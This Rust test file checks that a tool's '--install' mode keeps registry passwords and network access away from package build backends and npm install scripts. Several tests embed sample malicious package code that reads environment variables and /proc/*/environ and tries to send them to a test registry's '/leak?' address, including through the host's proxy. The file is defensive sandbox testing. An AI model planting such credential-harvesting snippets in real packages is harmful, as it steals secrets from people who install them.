//! `--install`: what is fetched is fetched with the keys, what is built has neither keys nor network.

#![expect(clippy::unwrap_used, reason = "a test may stop at the first surprise")]

mod place;
mod registry;

use place::{Finished, Place, names};
use registry::{Npm, PASSWORD, Registry, Source, Wheel, npm_key};

/// What code of a package tries, as Python: to tell the registry all that it knows.
fn tell(registry: &Registry) -> String {
    format!(
        "import os, urllib.parse, urllib.request\n\
         SEEN = repr(dict(os.environ))\n\
         for path in ['/proc/self/environ', '/proc/1/environ', '/proc/%d/environ' % os.getppid()]:\n\
         \x20   try: SEEN += open(path).read()\n\
         \x20   except OSError: pass\n\
         try:\n    urllib.request.urlopen({:?} + urllib.parse.quote(SEEN)[:2000], timeout=5)\n\
         \x20   REACHED = 'yes'\n\
         except OSError: REACHED = 'no'\n\
         MODULE = f'seen = {{SEEN!r}}\\nreached = {{REACHED!r}}\\n'\n",
        registry.address("/leak?")
    )
}

fn run(place: &Place, registry: &Registry, arguments: &[&str]) -> Finished {
    let mut command = place.skill(arguments);
    command.env("XDG_CACHE_HOME", place.path("cache"));
    registry.configure(&mut command, &place.path("home"));
    // pip would ask for a password that is not there.
    command.env("PIP_NO_INPUT", "1");
    let done = Finished::of(&command.output().unwrap());
    assert_eq!(names(&place.path("tmp")), Vec::<String>::new(), "something was left behind");
    done
}

#[track_caller]
fn assert_kept(place: &Place, registry: &Registry, done: &Finished) {
    assert_eq!(registry.leaks(), Vec::<String>::new(), "code of a package had network: {done:?}");
    for key in [PASSWORD, &npm_key()] {
        assert!(!done.out.contains(key) && !done.err.contains(key), "{done:?}");
    }
    let found = std::process::Command::new("grep")
        .args(["-r", "-l", "-a", "-e", PASSWORD, "-e", &npm_key()])
        .arg(place.path("cache"))
        .output()
        .unwrap();
    assert!(found.stdout.is_empty(), "{}", String::from_utf8_lossy(&found.stdout));
}

#[test]
fn a_build_backend_sees_no_password_and_no_network() {
    let place = Place::new();
    place.file(
        "probe/scripts/go.py",
        "import small_thing\nprint(small_thing.seen, small_thing.reached)\n",
    );
    let registry = Registry::start().lock();
    let attack = tell(&registry);
    let registry = registry.source(&Source::new("small_thing", attack));
    let done = run(&place, &registry, &["run", "--install", "../probe"]);
    assert_kept(&place, &registry, &done);
    assert!(done.out.ends_with(" no\n"), "{done:?}");
    assert_eq!(done.code, Some(0), "{done:?}");
}

/// What is fetched goes through the proxy of the host; code of packages reaches neither the proxy nor,
/// through it, anything else, and does not see its password.
#[test]
fn a_proxy_of_the_host_is_not_there_for_code_of_packages() {
    let place = Place::new();
    place.file("probe/scripts/go.py", "import small_thing\nprint(small_thing.tried)\n");
    let registry = Registry::start();
    let proxy = registry.address("").replace("http://", &format!("http://me:{PASSWORD}@"));
    let attack = format!(
        "import os, urllib.request as r\n\
         TRIED = [repr(dict(os.environ))]\n\
         for proxies in [{{'http': {proxy:?}}}, None]:\n\
         \x20   try:\n\
         \x20       open_ = r.build_opener(r.ProxyHandler(proxies)).open\n\
         \x20       open_('http://inside.example/leak?proxy', timeout=5)\n\
         \x20       TRIED.append('reached')\n\
         \x20   except OSError as error: TRIED.append('failed')\n\
         MODULE = f'tried = {{TRIED!r}}\\n'\n"
    );
    // Its text has the password, which nobody but this test put there: it is told without.
    let registry = registry.source(&Source::new("small_thing", attack));
    let mut command = place.skill(&["run", "--install", "../probe"]);
    command.env("XDG_CACHE_HOME", place.path("cache"));
    registry.configure(&mut command, &place.path("home"));
    command
        .env("PIP_INDEX_URL", "http://packages.example/simple/")
        .env_remove("PIP_EXTRA_INDEX_URL");
    command.env("PIP_TRUSTED_HOST", "packages.example").env("HTTP_PROXY", &proxy);
    let done = Finished::of(&command.output().unwrap());
    let fetched = "http://packages.example/files/small_thing-1.0.tar.gz".to_owned();
    assert!(registry.requests().contains(&fetched), "{:?} {done:?}", registry.requests());
    assert_eq!(registry.leaks(), Vec::<String>::new(), "{done:?}");
    assert!(done.out.ends_with(", 'failed', 'failed']\n"), "{done:?}");
    assert!(!done.out.to_lowercase().contains("proxy"), "{done:?}");
    assert!(!done.out.contains(PASSWORD) && !done.err.contains(PASSWORD), "{done:?}");
}

#[test]
fn an_install_script_sees_no_password_and_no_network() {
    let place = Place::new();
    place.file("probe/scripts/go.cjs", "console.log(require('small-thing'));\n");
    let registry = Registry::start().lock();
    let script = format!(
        "(env; cat /proc/1/environ ../.package-lock.json) > seen; \
         python3 -c \"import urllib.request as r; r.urlopen('{}', timeout=5)\" && echo yes > reached; exit 0",
        registry.address("/leak?npm")
    );
    let mut package = Npm::new("small-thing", script);
    package.exports = "[require('fs').readFileSync(__dirname + '/seen', 'utf8'), \
                       require('fs').existsSync(__dirname + '/reached')]"
        .to_owned();
    let registry = registry.npm(&package);
    let done = run(&place, &registry, &["run", "--install", "../probe"]);
    assert_kept(&place, &registry, &done);
    assert!(
        done.out.contains("npm_lifecycle_event=postinstall"),
        "the script did not run: {done:?}"
    );
    assert!(done.out.trim_end().ends_with("false\n]") || done.out.contains("', false"), "{done:?}");
}

/// pip takes an address in the metadata of a wheel for a requirement, and would build what is there
/// although it was told to take wheels only.
#[test]
fn an_address_in_a_wheel_does_not_have_its_code_run_with_the_keys() {
    let place = Place::new();
    place.file("probe/scripts/go.py", "import small_thing\n");
    let registry = Registry::start().lock();
    let mut wheel = Wheel::new("small_thing", "");
    wheel
        .requires
        .push(format!("other_thing @ {}", registry.address("/files/other_thing-1.0.tar.gz")));
    let attack = tell(&registry);
    let registry = registry.wheel(&wheel).source(&Source::new("other_thing", attack));
    let done = run(&place, &registry, &["run", "--install", "../probe"]);
    assert_kept(&place, &registry, &done);
    assert_eq!(done.code, Some(125), "{done:?}");
}

/// A package that has to be built, with what builds it and what it requires to be built as well.
#[test]
fn what_has_no_wheel_is_built_with_all_that_it_needs() {
    let place = Place::new();
    place.file(
        "probe/scripts/go.py",
        "import small_thing, other_thing\nprint(small_thing.answer(), other_thing.answer())\n",
    );
    place.file("probe/requirements.txt", "small_thing>=0.5\n");
    let mut small = Source::new("small_thing", "import tool_wheel, tool_source\n");
    small.build_requires = vec!["tool_wheel".to_owned(), "tool_source>=1".to_owned()];
    small.requires = vec!["other_thing<2".to_owned()];
    let more =
        "def get_requires_for_build_wheel(config_settings=None):\n    return ['tool_late']\n";
    let tool = Source::new("tool_source", more);
    let registry = Registry::start()
        .lock()
        .source(&small)
        .source(&tool)
        .source(&Source::new("other_thing", ""))
        .wheel(&Wheel::new("tool_wheel", ""))
        .wheel(&Wheel::new("tool_late", ""));
    let done = run(&place, &registry, &["run", "--install", "../probe"]);
    assert_eq!(done.out, "42 42\n", "{done:?}");
    assert_kept(&place, &registry, &done);
    let again = run(&place, &registry, &["run", "../probe"]);
    assert_eq!((again.out.as_str(), again.err.as_str()), ("42 42\n", ""));
}

#[test]
fn a_password_that_does_not_fit_is_not_told() {
    let place = Place::new();
    place.file("probe/scripts/go.py", "import small_thing\n");
    let registry = Registry::start().lock();
    let mut command = place.skill(&["run", "--install", "../probe"]);
    command.env("XDG_CACHE_HOME", place.path("cache"));
    registry.configure(&mut command, &place.path("home"));
    let wrong = registry.address("/simple/").replace("http://", "http://reader:wrong-9c2e@");
    command.env("PIP_INDEX_URL", &wrong).env("PIP_EXTRA_INDEX_URL", &wrong);
    let done = Finished::of(&command.output().unwrap());
    assert_eq!(done.code, Some(125), "{done:?}");
    assert!(!done.err.contains("wrong-9c2e"), "{done:?}");
}
